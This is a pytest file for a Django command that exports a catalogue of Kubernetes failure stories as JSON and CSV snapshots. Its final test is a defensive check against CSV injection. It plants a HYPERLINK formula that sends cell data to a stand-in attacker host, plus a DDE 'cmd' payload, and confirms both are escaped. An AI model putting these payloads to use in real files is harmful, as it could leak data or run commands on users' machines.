"""export_dataset: the public catalogue as JSON with its schema and as CSV, in snapshots."""

import csv
import datetime
import hashlib
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from apps.catalog.models import Story
from apps.dataset.content import public_catalogue
from apps.dataset.snapshot import LICENCE_NOTES, latest_snapshot, write_snapshot
from tests.dataset.conftest import SECRET_UPSTREAM, SECRET_URL
from tests.factories import SourceFactory, StoryFactory

pytestmark = pytest.mark.django_db


def test_the_document_holds_every_published_story_and_nothing_else(
    catalogue: dict[str, Story], dataset_dir: Path
) -> None:
    call_command("export_dataset", stdout=io.StringIO())
    snapshot = latest_snapshot(dataset_dir)
    assert snapshot is not None
    document = json.loads((snapshot.folder / "catalogue.json").read_bytes())
    public = sorted(Story.objects.public().values_list("slug", flat=True))
    assert [s["slug"] for s in document["stories"]] == public
    assert len(public) > 10
    assert snapshot.manifest["counts"]["stories"] == len(public)
    hidden = [catalogue["draft"], catalogue["retracted"]]
    texts = [hidden[0].slug, hidden[1].slug, hidden[0].title, hidden[1].title, SECRET_URL]
    texts.append(SECRET_UPSTREAM)
    for path in snapshot.folder.iterdir():
        data = path.read_bytes()
        if path.suffix == ".zip":
            with zipfile.ZipFile(path) as zipped:
                data = b"".join(zipped.read(name) for name in zipped.namelist())
        for text in texts:
            assert text.encode() not in data, (path.name, text)


def test_the_document_is_valid_against_its_published_schema(
    catalogue: dict[str, Story], dataset_dir: Path
) -> None:
    snapshot = write_snapshot(dataset_dir)
    schema = json.loads((snapshot.folder / "catalogue.schema.json").read_bytes())
    document = json.loads((snapshot.folder / "catalogue.json").read_bytes())
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    assert list(validator.iter_errors(document)) == []
    document["stories"][0]["status"] = "draft"
    document["stories"][1]["date"] = "March 2019"
    assert len(list(validator.iter_errors(document))) == 2


def test_csv_tables_hold_the_same_catalogue(catalogue: dict[str, Story], dataset_dir: Path) -> None:
    snapshot = write_snapshot(dataset_dir)
    document = json.loads((snapshot.folder / "catalogue.json").read_bytes())

    def rows(table: str) -> list[dict[str, str]]:
        with (snapshot.folder / f"{table}.csv").open(encoding="utf-8", newline="") as f:
            return list(csv.DictReader(f))

    stories = {row["slug"]: row for row in rows("stories")}
    assert list(stories) == [s["slug"] for s in document["stories"]]
    for story in document["stories"]:
        assert stories[story["slug"]]["summary"] == story["summary"]  # newlines survive
    assert [(r["story"], r["url"]) for r in rows("sources")] == [
        (s["slug"], src["url"]) for s in document["stories"] for src in s["sources"]
    ]
    assert {(r["story"], r["component"]) for r in rows("story_components")} == {
        (s["slug"], c) for s in document["stories"] for c in s["components"]
    }
    assert {r["url"] for r in rows("upstream_issues")} == {
        link["upstream_issue"] for link in rows("story_upstream_issues")
    }
    assert {r["mitigation"] for r in rows("story_mitigations")} <= {
        r["slug"] for r in rows("mitigations")
    }
    assert len(rows("components")) == snapshot.manifest["counts"]["components"]
    assert rows("mitigation_links") and rows("symptoms") and rows("story_platforms")


def test_a_snapshot_is_dated_checksummed_and_says_what_the_licence_is(
    catalogue: dict[str, Story], dataset_dir: Path
) -> None:
    first = write_snapshot(
        dataset_dir, now=datetime.datetime(2026, 1, 2, 3, 4, 5, tzinfo=datetime.UTC)
    )
    assert first.folder.name == "2026-01-02T030405Z"
    sums = (first.folder / "SHA256SUMS").read_text().splitlines()
    assert len(sums) == len(list(first.folder.iterdir())) - 1
    for line in sums:
        digest, name = line.split("  ")
        assert hashlib.sha256((first.folder / name).read_bytes()).hexdigest() == digest
    assert "k8s-failure-stories-2026-01-02T030405Z.zip" in first.checksums
    with zipfile.ZipFile(first.folder / first.archive) as zipped:
        assert "k8s-failure-stories-2026-01-02T030405Z/catalogue.json" in zipped.namelist()
    readme = (first.folder / "README.md").read_text()
    assert "states no licence for the catalogue's content" in readme
    assert first.manifest["licence"] == LICENCE_NOTES
    assert first.manifest["generated_at"] == "2026-01-02T03:04:05Z"

    later = write_snapshot(dataset_dir, now=datetime.datetime(2026, 2, 1, tzinfo=datetime.UTC))
    assert latest_snapshot(dataset_dir) == later
    assert (dataset_dir / "LATEST").read_text() == "2026-02-01T000000Z\n"
    assert first.folder.is_dir()
    with pytest.raises(FileExistsError):
        write_snapshot(dataset_dir, now=datetime.datetime(2026, 2, 1, tzinfo=datetime.UTC))
    assert latest_snapshot(dataset_dir) == later


def test_no_snapshot_or_a_broken_pointer_is_none(dataset_dir: Path) -> None:
    assert latest_snapshot(dataset_dir) is None
    dataset_dir.mkdir()
    (dataset_dir / "LATEST").write_text("../../etc\n")
    assert latest_snapshot(dataset_dir) is None


def test_the_export_reads_a_constant_number_of_queries(
    catalogue: dict[str, Story], django_assert_num_queries: Any
) -> None:
    public_catalogue()
    with CaptureQueriesContext(connection) as before:
        public_catalogue()
    for n in range(5):
        StoryFactory(slug=f"2020-more-corp-extra-{n}")
    with django_assert_num_queries(len(before.captured_queries)):
        document = public_catalogue()
    assert "2020-more-corp-extra-4" in {s["slug"] for s in document["stories"]}


def test_the_command_names_a_clash(dataset_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def clash(root: Path) -> None:
        raise FileExistsError(f"a snapshot named 2026-01-02T030405Z exists already in {root}")

    monkeypatch.setattr("apps.dataset.management.commands.export_dataset.write_snapshot", clash)
    with pytest.raises(CommandError, match=r"exists already .*run it again in a second"):
        call_command("export_dataset", stdout=io.StringIO())


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
    db: None, dataset_dir: Path
) -> None:
    """An approved title, symptom or source title starting with = + - @ (or a tab or CR)
    reached stories.csv as is, and a spreadsheet opening it ran the formula (OWASP's CSV
    injection). Such cells start with an apostrophe; catalogue.json keeps the exact text."""
    title = '=HYPERLINK("https://evil.example.org/?d="&A1,"details")'
    story = StoryFactory(title=title, symptoms=["+cmd|' /C calc'!A0", "@SUM(1+1)", "ok -1"])
    SourceFactory(story=story, title="-2+3", url="https://example.org/formula")
    snapshot = write_snapshot(dataset_dir)

    def cells(table: str) -> list[str]:
        with (snapshot.folder / f"{table}.csv").open(encoding="utf-8", newline="") as f:
            return [cell for row in csv.reader(f) for cell in row]

    assert "'" + title in cells("stories")
    assert title not in cells("stories")
    symptoms = cells("symptoms")
    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)", "ok -1"} <= set(symptoms)
    assert "'-2+3" in cells("sources")
    assert not [cell for table in ("stories", "symptoms", "sources") for cell in cells(table)
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]  # fmt: skip
    document = json.loads((snapshot.folder / "catalogue.json").read_bytes())
    (exported,) = [s for s in document["stories"] if s["slug"] == story.slug]
    assert exported["title"] == title
